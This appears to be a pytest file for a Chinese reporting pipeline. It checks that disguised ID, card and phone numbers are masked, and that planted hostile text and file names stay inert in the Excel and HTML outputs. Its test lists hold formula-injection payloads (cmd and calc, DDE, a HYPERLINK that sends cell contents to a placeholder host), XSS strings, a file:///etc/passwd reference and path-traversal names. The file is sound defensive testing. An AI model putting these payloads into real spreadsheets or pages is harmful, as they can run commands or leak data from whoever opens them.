"""Numbers, names and texts planted to get out: masked, harmless, or the night stops."""

from __future__ import annotations

import random
import re
import unicodedata
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest

from pipelines.progress import silent
from pipelines.report import audit, gate, gate_file, write
from pipelines.report.masking import mask_text
from pipelines.report.names import safe_names
from pipelines.report.tables import file_hashes
from tests.report.literal_night import SETTINGS, make_night, pid

MARKS = (
    " ",
    "-",
    "\u200b",
    "\u3000",
    "·",
    ".",
    "/",
    "_",
    "\u00a0",
    "\u2060",
    "－",
    "\t",
    "\n",
)
SCRIPTS = {
    "wide": {ord(str(n)): chr(0xFF10 + n) for n in range(10)},
    "arabic": {ord(str(n)): chr(0x660 + n) for n in range(10)},
    "devanagari": {ord(str(n)): chr(0x966 + n) for n in range(10)},
    "bold": {ord(str(n)): chr(0x1D7CE + n) for n in range(10)},
    "chinese": dict(zip(map(ord, "0123456789"), "零一二三四五六七八九", strict=True)),
}


def a_number(dice: random.Random) -> str:
    born = f"20{dice.randrange(1, 10):02d}{dice.randrange(1, 13):02d}{dice.randrange(1, 29):02d}"
    return pid(born, f"{dice.randrange(1000):03d}")


def a_card(dice: random.Random) -> str:
    return "62" + "".join(str(dice.randrange(10)) for _ in range(dice.choice((14, 17))))


def a_telephone(dice: random.Random) -> str:
    return f"1{dice.randrange(3, 10)}" + "".join(
        str(dice.randrange(10)) for _ in range(9)
    )


def disguised(number: str, dice: random.Random) -> str:
    """The number in another script, or with marks between groups, or both."""
    sizes = {
        11: ((3, 4, 4), (11,), (1,) * 11),
        16: ((4, 4, 4, 4), (16,)),
        18: ((6, 8, 4), (6, 4, 4, 4), (3,) * 6, (18,), (1,) * 18),
        19: ((4, 4, 4, 4, 3), (19,)),
    }[len(number)]
    groups, at = [], 0
    for size in dice.choice(sizes):
        groups.append(number[at : at + size])
        at += size
    text = dice.choice(MARKS).join(groups)
    return (
        text.translate(SCRIPTS[dice.choice([*SCRIPTS])])
        if dice.random() < 0.4
        else text
    )


@pytest.mark.parametrize("kind", [a_number, a_card, a_telephone])
def test_the_gate_sees_and_the_mask_hides_every_disguise(kind: object) -> None:
    dice = random.Random(3)
    for _ in range(400):
        number = kind(dice)  # type: ignore[operator]
        text = dice.choice(("", "电话", "号码：")) + disguised(number, dice) + "。"
        assert gate.leaks(text), ascii(text)
        assert gate.leaks(mask_text(text)) == [], ascii(text)


PLAIN = [
    "2021-09-01 至 2022-07-01，3,000 元", "2021-2022-2023-2024 学年", "户编号1409280001",
    "2021.09.01—2024.07.01", "第1、2、3、4、5、6、7、8、9、10、11、12位不同", "共 12,345,678,901 元",
    "2023-09-20 10:11:12", "20210901/20220701", "a7k2-x 三千 二〇二一年九月一日 2021-09-01",
    "1班 2班 3班 4班 5班 6班 7班 8班 9班 10班 11班", "0.70866141732283", "140928-00001",
]  # fmt: skip


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_number_stays_as_it_is(text: str) -> None:
    assert mask_text(text) == text
    assert gate.leaks(text) == []


TEXTS = [
    '=HYPERLINK("http://x.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "=IMPORTXML(1)", "＝1+1",
    "{=1+1}", "=DDE(\"a\";\"b\";\"c\")", "http://x.example", "mailto:a@x.example", "#REF!",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "&L&G&R", "\u202e文倒", "x\x00y", "\ud800", "长" * 5000, "_x000D_", "]]>", "<!-- x -->",
    "file:///etc/passwd", "\\\\x.example\\share", "%00", "data:text/html,x",
]  # fmt: skip
VILLAGES = [
    "../../etc", "..", ".", "a/b", "a\\b", "C:\\x", "CON", "nul.txt", "com1", "LPT9.x", "村\u202e里",
    "村 ", "村.", "村", "村\u200b", "Ａ村", "A村", "村" * 200, "<b>", "村?*|", "\u0000村", "13800001234",
    "=村", "'村'", "[村]", "村\n里", "~$村", "é村", "e\u0301村", "",
]  # fmt: skip


def plant(con: duckdb.DuckDBPyConnection, text: str) -> None:
    """One text wherever a text from outside can stand."""
    clean = text.replace("\ud800", "").replace("\x00", "")
    con.execute(
        "update fnd_finding set sentence = $1 || sentence, observed = $1, expected = $1, "
        "name = case when finding_no = 'B3M9-4' then $1 else name end",
        [clean],
    )
    con.execute("update raw_yulu_roster set school_level = $1, name = $1", [clean])
    con.execute("update raw_monitored_person set school_state = $1", [clean])
    con.execute("update stg_yulu_roster set school_name = $1", [clean])
    con.execute("update lnk_person set head_name = $1", [clean])
    con.execute("update ref_rule set asks = asks || $1", [clean])


def bytes_for_others(folder: Path) -> str:
    """All that townships, villages and the public get, digits of every script as ours."""
    found = []
    for path in sorted(folder.rglob("*.xlsx")):
        if path.relative_to(folder).parts[0] in ("乡镇", "村", "公示名单.xlsx"):
            with zipfile.ZipFile(path) as book:
                found += [book.read(name).decode() for name in book.namelist()]
    found.append((folder / "总览.html").read_text(encoding="utf-8"))
    text = unicodedata.normalize("NFKC", "\n".join(found))
    digits = (str(unicodedata.digit(c, c)) for c in text)  # type: ignore[call-overload]
    return re.sub(r"[\s\u200b\u2060·./_-]", "", "".join(map(str, digits)))


@pytest.mark.parametrize("seed", [1, pytest.param(2, marks=pytest.mark.slow)])
def test_no_planted_number_gets_out(seed: int, tmp_path: Path) -> None:
    dice = random.Random(seed)
    con = make_night()
    planted = [kind(dice) for kind in (a_number, a_card, a_telephone) for _ in range(3)]
    plant(con, "，".join(disguised(number, dice) for number in planted))
    con.execute("update fnd_finding set village = village || $1", [planted[-1]])
    write(con, tmp_path / "n", SETTINGS, silent)
    assert audit(tmp_path / "n", con) == []
    text = bytes_for_others(tmp_path / "n")
    assert [number for number in planted if number in text] == []
    names = "".join(file_hashes(tmp_path / "n"))
    assert [number for number in planted if number in names] == []


@pytest.mark.parametrize("part", range(2))
def test_no_planted_text_acts(part: int, tmp_path: Path) -> None:
    con = make_night()
    plant(con, "　".join(TEXTS[part::2]))
    write(con, tmp_path / "n", SETTINGS, silent)
    assert audit(tmp_path / "n", con) == []
    for path in sorted((tmp_path / "n").rglob("*.xlsx")):
        book = openpyxl.load_workbook(path)
        kinds = {
            c.data_type for page in book for line in page.iter_rows() for c in line
        }
        assert kinds <= {"s", "n", "d"}, path.name
        assert not any(page._hyperlinks for page in book)


@pytest.mark.parametrize("text", [t for t in TEXTS if t[0] in "=+-@\t\r\n＝{"])
def test_a_text_that_looks_like_a_formula_is_a_text(text: str, tmp_path: Path) -> None:
    from pipelines.report.book import Book
    from tests.report.test_book import FACTS

    book = Book("试", FACTS)
    book.page("表").put(0, 0, text, None)
    book.save(tmp_path / "a.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "a.xlsx")["表"]["A1"]
    assert cell.data_type == "s"


def test_hostile_villages_get_files_of_their_own() -> None:
    names = safe_names(VILLAGES, ".xlsx")
    assert len({name.casefold() for name in names.values()}) == len(VILLAGES)
    for village, name in names.items():
        assert [*gate_file.in_name(name)] == [], ascii(village)
        assert "/" not in name
        assert len(name.encode()) <= 80


@pytest.mark.parametrize(
    "name",
    ["CON.xlsx", "a\u202e.xlsx", "a .", "a\\b", "x" * 300, "..", "13800001234.xlsx"],
)
def test_the_gate_refuses_such_names(name: str) -> None:
    assert [*gate_file.in_name(name)]
